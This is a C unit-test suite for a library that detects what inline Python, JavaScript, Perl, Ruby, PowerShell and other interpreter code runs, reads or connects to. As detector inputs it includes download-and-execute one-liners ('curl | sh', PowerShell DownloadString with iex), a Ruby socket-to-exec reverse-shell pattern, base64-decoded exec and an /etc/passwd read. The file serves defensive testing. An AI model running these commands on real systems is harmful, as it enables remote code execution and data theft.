/*
 * Inline interpreter code (lib/shell/inline.h): the case files under
 * tests/data/inline/, properties on random code (invariants; code inside
 * a string literal or a comment finds nothing), allocation failures,
 * limits, and, on request (PREMPTI_INLINE_BENCH), a timing report.
 *
 * Case keys (every item kind and flag not listed must be empty):
 *   lang      an interpreter name (python3, node, perl, ...) or a language name
 *   code      the code; continuation lines are joined with newlines
 *   code_c    the code with C escapes (\n \t \\ \xHH)
 *   run read write delete connect
 *             the items of that kind, one per line, in order, each written
 *             "[flags] value" (flags: dyn argv decoded elevated url dN for
 *             depth N; no brackets when none); a value is written as
 *             pe_case_put_escaped() writes it (\\ \n \t \r \xHH)
 *   hosts     for each connect item with a host: host or host:port
 *   apis      the API of every item, in order, space-separated
 *   flags     result flags: dynamic_exec dynamic decode network reverse_shell
 *             eval socket parse_error limit limit_depth limit_count limit_work
 *   error     text the first parse error must contain
 */
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "case_check.h"
#include "shell/inline.h"
#include "shell/inline_internal.h"
#include "util/strbuf.h"

static const char *const kind_keys[] = {"run", "read", "write", "delete", "connect"};

static const struct {
    unsigned bit;
    const char *name;
} result_flags[] = {
    {PE_INLINE_DYNAMIC_EXEC, "dynamic_exec"},
    {PE_INLINE_DYNAMIC, "dynamic"},
    {PE_INLINE_DECODE, "decode"},
    {PE_INLINE_NETWORK, "network"},
    {PE_INLINE_REVERSE_SHELL, "reverse_shell"},
    {PE_INLINE_EVAL, "eval"},
    {PE_INLINE_SOCKET, "socket"},
    {PE_INLINE_PARSE_ERROR, "parse_error"},
    {PE_INLINE_LIMIT, "limit"},
    {PE_INLINE_LIMIT_DEPTH, "limit_depth"},
    {PE_INLINE_LIMIT_COUNT, "limit_count"},
    {PE_INLINE_LIMIT_WORK, "limit_work"},
};

static const struct {
    unsigned bit;
    const char *name;
} item_flags[] = {{PE_INLINE_I_DYNAMIC, "dyn"},
                  {PE_INLINE_I_ARGV, "argv"},
                  {PE_INLINE_I_DECODED, "decoded"},
                  {PE_INLINE_I_ELEVATED, "elevated"},
                  {PE_INLINE_I_URL, "url"}};

static void put_item(pe_strbuf *sb, const pe_inline_item *it)
{
    int any = 0;
    for (size_t f = 0; f < sizeof(item_flags) / sizeof(item_flags[0]); f++)
        if (it->flags & item_flags[f].bit)
            pe_sb_printf(sb, "%s%s", any++ ? "," : "[", item_flags[f].name);
    if (it->depth)
        pe_sb_printf(sb, "%sd%u", any++ ? "," : "[", it->depth);
    if (any)
        pe_sb_puts(sb, it->value.len ? "] " : "]");
    pe_case_put_escaped(sb, it->value.s, it->value.len);
}

static int nul_terminated(pe_str s)
{
    return s.s && s.s[s.len] == '\0';
}

/* What holds for every result, whatever the input. */
static void check_invariants(const pe_inline_result *r, size_t len)
{
    int dyn_run = 0;
    for (size_t i = 0; i < r->nitems; i++) {
        const pe_inline_item *it = &r->items[i];
        ck_assert(it->kind <= PE_INLINE_CONNECT);
        ck_assert(nul_terminated(it->value) && nul_terminated(it->api) && it->api.len > 0);
        ck_assert(nul_terminated(it->host.text));
        ck_assert_uint_le(it->depth, PE_INLINE_MAX_DEPTH);
        ck_assert_uint_le(it->offset, len);
        ck_assert(it->port >= -1 && it->port <= 65535);
        dyn_run |= it->kind == PE_INLINE_RUN && (it->flags & PE_INLINE_I_DYNAMIC);
        if (it->kind != PE_INLINE_CONNECT)
            ck_assert(it->host.kind == PE_HOST_NONE);
    }
    ck_assert_uint_le(r->nitems, PE_INLINE_MAX_ITEMS);
    if (dyn_run)
        ck_assert(r->flags & PE_INLINE_DYNAMIC_EXEC);
    if (r->flags & PE_INLINE_LIMIT)
        ck_assert(r->flags & PE_INLINE_DYNAMIC);
    if (r->flags & PE_INLINE_REVERSE_SHELL)
        ck_assert(r->flags & PE_INLINE_SOCKET);
    if (r->flags & PE_INLINE_SOCKET)
        ck_assert(r->flags & PE_INLINE_NETWORK);
    ck_assert((r->error != NULL) == ((r->flags & PE_INLINE_PARSE_ERROR) != 0));
}

static pe_lang case_lang(pe_case_check *k)
{
    static const char *const names[] = {"none",        "python",     "javascript", "perl",
                                        "ruby",        "php",        "lua",        "r",
                                        "applescript", "powershell", "awk"};
    const char *v = pe_case_value(k->c, "lang");
    ck_assert_msg(v != NULL, "%s:%zu: no lang", k->file, k->c->line);
    for (int i = 1; i < 11; i++)
        if (strcmp(v, names[i]) == 0)
            return (pe_lang)i;
    pe_lang l = pe_inline_lang(v, strlen(v));
    ck_assert_msg(l != PE_LANG_NONE, "%s:%zu: unknown lang %s", k->file, k->c->line, v);
    return l;
}

static void inline_case(pe_case_check *k, void *ctx)
{
    (void)ctx;
    static const char *const known[] = {"lang",  "code",   "code_c",  "run",   "read",
                                        "write", "delete", "connect", "hosts", "apis",
                                        "flags", "error",  "note",    NULL};
    pe_case_known_keys(k, known);
    pe_lang lang = case_lang(k);
    const char *code = pe_case_value(k->c, "code");
    size_t len = code ? strlen(code) : 0;
    char *owned = NULL;
    if (!code && pe_case_value(k->c, "code_c"))
        code = owned = pe_case_unescape(pe_case_value(k->c, "code_c"), &len);
    ck_assert_msg(code != NULL, "%s:%zu: no code", k->file, k->c->line);
    pe_arena a = PE_ARENA_INIT;
    pe_inline_result *r = NULL;
    ck_assert_int_eq(pe_inline_analyze(&r, lang, code, len, &a), 0);
    check_invariants(r, len);
    pe_strbuf sb = PE_STRBUF_INIT;
    for (int kind = 0; kind <= PE_INLINE_CONNECT; kind++) {
        pe_sb_reset(&sb);
        for (size_t i = 0; i < r->nitems; i++) {
            if ((int)r->items[i].kind != kind)
                continue;
            if (sb.len)
                pe_sb_putc(&sb, '\n');
            put_item(&sb, &r->items[i]);
        }
        pe_case_expect_or_empty(k, kind_keys[kind], pe_sb_str(&sb));
    }
    pe_sb_reset(&sb);
    for (size_t i = 0; i < r->nitems; i++) {
        const pe_inline_item *it = &r->items[i];
        if (it->kind != PE_INLINE_CONNECT || it->host.kind == PE_HOST_NONE)
            continue;
        pe_sb_printf(&sb, "%s%s", sb.len ? "\n" : "", it->host.text.s);
        if (it->port >= 0)
            pe_sb_printf(&sb, ":%ld", it->port);
    }
    pe_case_expect(k, "hosts", pe_sb_str(&sb));
    pe_sb_reset(&sb);
    for (size_t i = 0; i < r->nitems; i++)
        pe_sb_printf(&sb, "%s%s", i ? " " : "", r->items[i].api.s);
    pe_case_expect(k, "apis", pe_sb_str(&sb));
    pe_sb_reset(&sb);
    for (size_t f = 0; f < sizeof(result_flags) / sizeof(result_flags[0]); f++)
        if (r->flags & result_flags[f].bit)
            pe_sb_printf(&sb, "%s%s", sb.len ? " " : "", result_flags[f].name);
    pe_case_expect_set(k, "flags", pe_sb_str(&sb));
    const char *err = pe_case_value(k->c, "error");
    if (err && (!r->error || !strstr(r->error, err)))
        pe_case_mismatch(k, "error", err, r->error ? r->error : "(none)");
    pe_sb_free(&sb);
    pe_arena_free(&a);
    free(owned);
}

static void lang_case(pe_case_check *k, void *ctx)
{
    (void)ctx;
    static const char *const known[] = {"interp", "lang", "note", NULL};
    pe_case_known_keys(k, known);
    const char *interp = pe_case_value(k->c, "interp");
    ck_assert_ptr_nonnull(interp);
    pe_case_expect_or_empty(k, "lang", pe_lang_name(pe_inline_lang(interp, strlen(interp))));
}

static const char *const case_files[] = {
    "inline/python.cases", "inline/javascript.cases",  "inline/perl.cases",
    "inline/ruby.cases",   "inline/php.cases",         "inline/lua.cases",
    "inline/r.cases",      "inline/applescript.cases", "inline/powershell.cases",
    "inline/awk.cases",    "inline/not_found.cases",   "inline/malformed.cases",
};
#define NFILES (sizeof(case_files) / sizeof(case_files[0]))

START_TEST(case_file)
{
    if ((size_t)_i == NFILES)
        pe_case_run_file("inline/langs.cases", lang_case, NULL);
    else
        pe_case_run_file(case_files[_i], inline_case, NULL);
}
END_TEST

/* ---- properties ---------------------------------------------------------------------------- */

/* Fragments of code, shared by every language: quotes, brackets, API names,
 * comment and interpolation openers. */
static const char *const frags[] = {"os.system(",
                                    "subprocess.run([",
                                    "exec(",
                                    "eval(",
                                    "system ",
                                    "`",
                                    "'",
                                    "\"",
                                    "\"\"\"",
                                    "(",
                                    ")",
                                    "[",
                                    "]",
                                    "{",
                                    "}",
                                    "${",
                                    "#{",
                                    "$(",
                                    "$",
                                    "@",
                                    "%",
                                    "q{",
                                    "qx(",
                                    "<<EOF\n",
                                    "EOF\n",
                                    "<<<X\n",
                                    "X\n",
                                    "[[",
                                    "]]",
                                    "--",
                                    "#",
                                    "//",
                                    "/*",
                                    "*/",
                                    "<#",
                                    "#>",
                                    "(*",
                                    "*)",
                                    "\\",
                                    "\n",
                                    " ",
                                    ",",
                                    ";",
                                    "=",
                                    "+",
                                    ".",
                                    "..",
                                    "&",
                                    "|",
                                    "|&",
                                    "getline",
                                    "print ",
                                    "require('child_process').exec(",
                                    "import os as o\n",
                                    "o.system(",
                                    "'ls'",
                                    "\"id\"",
                                    "f\"{",
                                    "r'",
                                    "b'",
                                    "Invoke-Expression ",
                                    "iex ",
                                    "do shell script ",
                                    "io.popen(",
                                    "os.execute(",
                                    "socket.socket()",
                                    ".connect((",
                                    "'h', 1)",
                                    "open(",
                                    "'w'",
                                    ")\n",
                                    "__import__(",
                                    "getattr(",
                                    "base64.b64decode('aWQ=')",
                                    "@'\n",
                                    "'@\n",
                                    "@\"\n",
                                    "\"@\n",
                                    "=begin\n",
                                    "=end\n",
                                    "?>",
                                    "<?php ",
                                    "%x(",
                                    "%w[",
                                    "\xff",
                                    "\t",
                                    "-Path ",
                                    "New-Object "};

static size_t soup(char *buf, size_t cap, uint64_t *seed)
{
    size_t n = 0;
    for (int k = (int)(pe_test_rand(seed) % 48); k > 0; k--) {
        const char *f = frags[pe_test_rand(seed) % (sizeof(frags) / sizeof(frags[0]))];
        size_t fl = strlen(f);
        if (n + fl >= cap)
            break;
        memcpy(buf + n, f, fl);
        n += fl;
    }
    return n;
}

/* Random code in every language: never a crash, always the invariants,
 * and the same answer twice. */
START_TEST(random_code_is_safe)
{
    uint64_t seed = 0xA5A5F00DBEEF1234ull;
    char buf[1024];
    for (int it = 0; it < 6000; it++) {
        size_t n = soup(buf, sizeof(buf), &seed);
        pe_lang lang = (pe_lang)(1 + it % 10);
        pe_arena a = PE_ARENA_INIT;
        pe_inline_result *r1 = NULL, *r2 = NULL;
        ck_assert_int_eq(pe_inline_analyze(&r1, lang, buf, n, &a), 0);
        check_invariants(r1, n);
        ck_assert_int_eq(pe_inline_analyze(&r2, lang, buf, n, &a), 0);
        ck_assert_uint_eq(r1->nitems, r2->nitems);
        ck_assert_uint_eq(r1->flags, r2->flags);
        for (size_t i = 0; i < r1->nitems; i++)
            ck_assert_str_eq(r1->items[i].value.s, r2->items[i].value.s);
        pe_arena_free(&a);
    }
}
END_TEST

/* The code as one string literal of the language, so that it is data. */
static size_t as_string(pe_lang lang, const char *code, size_t n, char *out)
{
    size_t o = 0;
    const char *pre = "x = ", *post = "\n";
    char q = '\'';
    switch (lang) {
    case PE_LANG_PERL:
        pre = "my $x = ";
        post = ";\n";
        break;
    case PE_LANG_PHP:
        pre = "$x = ";
        post = ";\n";
        break;
    case PE_LANG_LUA:
        pre = "local x = ";
        break;
    case PE_LANG_R:
        pre = "x <- ";
        break;
    case PE_LANG_APPLESCRIPT:
        pre = "set x to ";
        q = '"';
        break;
    case PE_LANG_POWERSHELL:
        pre = "$x = ";
        break;
    case PE_LANG_AWK:
        pre = "BEGIN { x = ";
        post = " }\n";
        q = '"';
        break;
    case PE_LANG_JS:
        pre = "const x = ";
        post = ";\n";
        break;
    default:
        break;
    }
    o += (size_t)sprintf(out + o, "%s%c", pre, q);
    for (size_t i = 0; i < n; i++) {
        char ch = code[i];
        if (lang == PE_LANG_POWERSHELL) { /* '' is a quote; nothing else is special */
            if (ch == '\'')
                out[o++] = '\'';
            out[o++] = ch;
            continue;
        }
        if (ch == '\n' && (lang == PE_LANG_PHP || lang == PE_LANG_PERL || lang == PE_LANG_RUBY)) {
            out[o++] = ch; /* single-quoted strings may span lines there */
            continue;
        }
        if (ch == '\n' || ch == '\t' || (unsigned char)ch >= 0x80) {
            o += (size_t)sprintf(out + o,
                                 ch == '\n'   ? "\\n"
                                 : ch == '\t' ? "\\t"
                                              : "\\%03o",
                                 (unsigned char)ch);
            continue;
        }
        if (ch == '\\' || ch == q)
            out[o++] = '\\';
        out[o++] = ch;
    }
    o += (size_t)sprintf(out + o, "%c%s", q, post);
    return o;
}

/* Whatever the code, as a string literal it runs, reads and connects to
 * nothing: strings that mention APIs are data. */
START_TEST(code_in_a_string_is_data)
{
    uint64_t seed = 0x1234FEDCBA987ull;
    char buf[1024], wrapped[5200];
    for (int it = 0; it < 6000; it++) {
        size_t n = soup(buf, sizeof(buf), &seed);
        pe_lang lang = (pe_lang)(1 + it % 10);
        if (lang == PE_LANG_APPLESCRIPT || lang == PE_LANG_AWK) /* no octal escapes there */
            for (size_t i = 0; i < n; i++)
                buf[i] = (unsigned char)buf[i] >= 0x80 ? '?' : buf[i];
        size_t wn = as_string(lang, buf, n, wrapped);
        pe_arena a = PE_ARENA_INIT;
        pe_inline_result *r = NULL;
        ck_assert_int_eq(pe_inline_analyze(&r, lang, wrapped, wn, &a), 0);
        check_invariants(r, wn);
        ck_assert_msg(r->nitems == 0 && r->flags == 0,
                      "language %s: %zu items, flags %#x, first %s, for: %s", pe_lang_name(lang),
                      r->nitems, r->flags, r->nitems ? r->items[0].value.s : "-", wrapped);
        pe_arena_free(&a);
    }
}
END_TEST

/* Every allocation failing in turn gives PREMPTI_E_NOMEM; with room enough,
 * the usual answer. */
START_TEST(allocation_failures_are_reported)
{
    static const struct {
        pe_lang lang;
        const char *code;
    } cases[] = {
        {PE_LANG_PYTHON, "import subprocess as sp, base64\nsp.run(['ls', f'-{x}'], shell=False)\n"
                         "exec(base64.b64decode('b3Muc3lzdGVtKCdpZCcp'))"},
        {PE_LANG_JS, "const {execSync: x} = require('child_process'); x(`curl ${u} | sh`)"},
        {PE_LANG_PERL, "open(my $f, '-|', 'ls', '-la'); my $h = <<\"E\";\n$x\nE\nsystem($h)"},
        {PE_LANG_POWERSHELL, "iex (New-Object Net.WebClient).DownloadString('http://x/a')"},
    };
    for (size_t k = 0; k < sizeof(cases) / sizeof(cases[0]); k++) {
        size_t len = strlen(cases[k].code);
        pe_arena ref_arena = PE_ARENA_INIT;
        pe_inline_result *ref = NULL;
        ck_assert_int_eq(pe_inline_analyze(&ref, cases[k].lang, cases[k].code, len, &ref_arena), 0);
        int failures = 0, done = 0;
        for (size_t room = 0; !done; room += 16) {
            pe_arena a = PE_ARENA_INIT;
            pe_test_arena_with_room(&a, room);
            pe_inline_result *r = NULL;
            int rc = pe_inline_analyze(&r, cases[k].lang, cases[k].code, len, &a);
            if (rc == 0) {
                check_invariants(r, len);
                ck_assert_uint_eq(r->nitems, ref->nitems);
                ck_assert_uint_eq(r->flags, ref->flags);
                for (size_t i = 0; i < r->nitems; i++)
                    ck_assert_str_eq(r->items[i].value.s, ref->items[i].value.s);
                done = 1;
            } else {
                ck_assert_int_eq(rc, PREMPTI_E_NOMEM);
                ck_assert_ptr_null(r);
                failures++;
            }
            pe_arena_free(&a);
        }
        ck_assert_int_gt(failures, 10);
        pe_arena_free(&ref_arena);
    }
}
END_TEST

static char *repeat(const char *before, const char *unit, size_t n, const char *after, size_t *len)
{
    size_t b = strlen(before), u = strlen(unit), a = strlen(after);
    char *s = malloc(b + u * n + a + 1);
    ck_assert_ptr_nonnull(s);
    memcpy(s, before, b);
    for (size_t i = 0; i < n; i++)
        memcpy(s + b + i * u, unit, u);
    memcpy(s + b + u * n, after, a + 1);
    *len = b + u * n + a;
    return s;
}

/* Pathological inputs stop at a limit and say so; they never run away. */
START_TEST(limits_are_reported)
{
    static const struct {
        pe_lang lang;
        const char *before, *unit;
        size_t n;
        const char *after;
        unsigned flag;
    } cases[] = {
        {PE_LANG_PYTHON, "", "exec(\"", 200, "", PE_INLINE_LIMIT_DEPTH},
        {PE_LANG_PYTHON, "os.system(", "str(", 5000, "'x'", PE_INLINE_LIMIT_DEPTH},
        {PE_LANG_JS, "x = `", "${`", 5000, "", PE_INLINE_LIMIT_DEPTH},
        {PE_LANG_PYTHON, "a = 'xxxxxxxxxxxxxxxx'\n", "a = a + a\n", 200, "os.system(a)",
         PE_INLINE_LIMIT_WORK},
        {PE_LANG_PERL, "", "system('ls');", 6000, "", PE_INLINE_LIMIT_COUNT},
    };
    for (size_t k = 0; k < sizeof(cases) / sizeof(cases[0]); k++) {
        size_t len;
        char *code = repeat(cases[k].before, cases[k].unit, cases[k].n, cases[k].after, &len);
        pe_arena a = PE_ARENA_INIT;
        pe_inline_result *r = NULL;
        ck_assert_int_eq(pe_inline_analyze(&r, cases[k].lang, code, len, &a), 0);
        check_invariants(r, len);
        ck_assert_msg((r->flags & cases[k].flag) && (r->flags & PE_INLINE_LIMIT),
                      "case %zu: flags %#x", k, r->flags);
        pe_arena_free(&a);
        free(code);
    }
    /* input past PE_INLINE_MAX_INPUT: a limit, and what fits is analysed */
    size_t len;
    char *big = repeat("import os; os.system('id') #", "x", PE_INLINE_MAX_INPUT, "", &len);
    pe_arena a = PE_ARENA_INIT;
    pe_inline_result *r = NULL;
    ck_assert_int_eq(pe_inline_analyze(&r, PE_LANG_PYTHON, big, len, &a), 0);
    ck_assert(r->flags & PE_INLINE_LIMIT_WORK);
    ck_assert_uint_eq(r->nitems, 1);
    pe_arena_free(&a);
    free(big);
}
END_TEST

START_TEST(api_edges)
{
    pe_arena a = PE_ARENA_INIT;
    pe_inline_result *r = (pe_inline_result *)&a;
    ck_assert_int_eq(pe_inline_analyze(NULL, PE_LANG_PYTHON, "x", 1, &a), PREMPTI_E_INVALID_ARG);
    ck_assert_int_eq(pe_inline_analyze(&r, PE_LANG_PYTHON, "x", 1, NULL), PREMPTI_E_INVALID_ARG);
    ck_assert_int_eq(pe_inline_analyze(&r, PE_LANG_PYTHON, NULL, 1, &a), PREMPTI_E_INVALID_ARG);
    ck_assert_int_eq(pe_inline_analyze(&r, PE_LANG_PYTHON, NULL, 0, &a), 0);
    ck_assert_uint_eq(r->nitems, 0);
    ck_assert_int_eq(pe_inline_analyze(&r, PE_LANG_NONE, "os.system('x')", 14, &a), 0);
    ck_assert_uint_eq(r->nitems, 0);
    ck_assert_int_eq(pe_inline_analyze(&r, (pe_lang)99, "os.system('x')", 14, &a), 0);
    ck_assert_uint_eq(r->nitems, 0);
    /* only len bytes are read */
    ck_assert_int_eq(pe_inline_analyze(&r, PE_LANG_PYTHON, "os.system('a') os.system('b')", 14, &a),
                     0);
    ck_assert_uint_eq(r->nitems, 1);
    ck_assert_str_eq(pe_lang_name((pe_lang)99), "none");
    ck_assert_int_eq(pe_inline_lang(NULL, 0), PE_LANG_NONE);
    pe_arena_free(&a);
}
END_TEST

/* The API tables are searched by bisection: every table must be strictly
 * sorted, and every row must be found by its name. */
START_TEST(api_tables_are_sorted)
{
    for (int l = 1; l <= 10; l++) {
        const inl_lang *L = inl_lang_get((pe_lang)l);
        ck_assert_ptr_nonnull(L);
        ck_assert_uint_gt(L->napi, 0);
        for (size_t i = 0; i < L->napi; i++) {
            const char *n = L->api[i].name;
            ck_assert_msg(i == 0 || strcmp(L->api[i - 1].name, n) < 0, "%s: %s is out of order",
                          L->name, n);
            ck_assert_msg(inl_api_find(L, n, strlen(n)) == &L->api[i], "%s: %s not found", L->name,
                          n);
        }
        ck_assert_ptr_null(inl_api_find(L, "no.such.api", 11));
    }
}
END_TEST

/* The same analyses from several threads at once give the same results:
 * nothing is shared but the constant tables. */
static const struct {
    pe_lang lang;
    const char *code;
} thread_code[] = {
    {PE_LANG_PYTHON, "import os as o; o.system('id'); open('/etc/passwd')"},
    {PE_LANG_JS, "const {execSync: x} = require('child_process'); x(atob('aWQ='))"},
    {PE_LANG_RUBY, "s = TCPSocket.new('10.0.0.1', 1); exec(s.gets)"},
    {PE_LANG_POWERSHELL, "iex (New-Object Net.WebClient).DownloadString('http://x')"},
};
#define NTHREAD_CODE (sizeof(thread_code) / sizeof(thread_code[0]))

static void *thread_main(void *arg)
{
    const char **expected = arg;
    for (int it = 0; it < 300; it++)
        for (size_t k = 0; k < NTHREAD_CODE; k++) {
            pe_arena a = PE_ARENA_INIT;
            pe_inline_result *r = NULL;
            int bad = pe_inline_analyze(&r, thread_code[k].lang, thread_code[k].code,
                                        strlen(thread_code[k].code), &a) != 0 ||
                      r->nitems == 0 || strcmp(r->items[0].value.s, expected[k]) != 0;
            pe_arena_free(&a);
            if (bad)
                return (void *)1;
        }
    return NULL;
}

START_TEST(pure_across_threads)
{
    pe_arena a = PE_ARENA_INIT;
    const char *expected[NTHREAD_CODE];
    for (size_t k = 0; k < NTHREAD_CODE; k++) {
        pe_inline_result *r = NULL;
        ck_assert_int_eq(pe_inline_analyze(&r, thread_code[k].lang, thread_code[k].code,
                                           strlen(thread_code[k].code), &a),
                         0);
        ck_assert_uint_gt(r->nitems, 0);
        expected[k] = r->items[0].value.s;
    }
    pthread_t t[4];
    for (int i = 0; i < 4; i++)
        ck_assert_int_eq(pthread_create(&t[i], NULL, thread_main, expected), 0);
    for (int i = 0; i < 4; i++) {
        void *ret = NULL;
        pthread_join(t[i], &ret);
        ck_assert_ptr_null(ret);
    }
    pe_arena_free(&a);
}
END_TEST

/* A timing report, run only when PREMPTI_INLINE_BENCH is set (timings are
 * not asserted: the machine is shared). */
START_TEST(timing_report)
{
    if (!getenv("PREMPTI_INLINE_BENCH"))
        return;
    static const struct {
        pe_lang lang;
        const char *code;
    } snippets[] = {
        {PE_LANG_PYTHON, "import subprocess; r = subprocess.run(['git', 'status', '--short'], "
                         "capture_output=True); print(r.stdout)"},
        {PE_LANG_PYTHON, "import json,sys; d = json.load(open('package.json')); "
                         "print(d['version'], d.get('name'))"},
        {PE_LANG_JS, "const fs = require('fs'); const p = JSON.parse(fs.readFileSync('package.json'"
                     ")); console.log(p.version)"},
        {PE_LANG_PERL, "while (<STDIN>) { chomp; next unless /error/i; print \"$.: $_\\n\"; } "
                       "system('logger', 'done')"},
        {PE_LANG_RUBY, "require 'json'; data = JSON.parse(File.read('config.json')); "
                       "puts data['name']; system('ls')"},
        {PE_LANG_POWERSHELL, "Get-ChildItem -Path ./src -Recurse | Where-Object { $_.Length -gt "
                             "1000 } | Select-Object Name"},
    };
    for (size_t k = 0; k < sizeof(snippets) / sizeof(snippets[0]); k++) {
        size_t len = strlen(snippets[k].code);
        int iters = 100000, failed = 0;
        size_t arena_bytes = 0;
        double t0 = pe_test_now();
        for (int i = 0; i < iters; i++) { /* a fresh arena per analysis */
            pe_arena a = PE_ARENA_INIT;
            pe_inline_result *r;
            failed |= pe_inline_analyze(&r, snippets[k].lang, snippets[k].code, len, &a);
            arena_bytes = a.total;
            pe_arena_free(&a);
        }
        double ns = (pe_test_now() - t0) / iters * 1e9;
        ck_assert_int_eq(failed, 0);
        printf("inline analysis: %-10s %3zu bytes: %6.0f ns, arena %zu bytes\n",
               pe_lang_name(snippets[k].lang), len, ns, arena_bytes);
    }
}
END_TEST

int main(void)
{
    Suite *s = suite_create("inline");
    TCase *tc = tcase_create("inline");
    tcase_add_loop_test(tc, case_file, 0, (int)NFILES + 1);
    tcase_add_test(tc, random_code_is_safe);
    tcase_add_test(tc, code_in_a_string_is_data);
    tcase_add_test(tc, allocation_failures_are_reported);
    tcase_add_test(tc, limits_are_reported);
    tcase_add_test(tc, api_edges);
    tcase_add_test(tc, api_tables_are_sorted);
    tcase_add_test(tc, pure_across_threads);
    tcase_add_test(tc, timing_report);
    tcase_set_timeout(tc, 300);
    suite_add_tcase(s, tc);
    return pe_test_run(s);
}
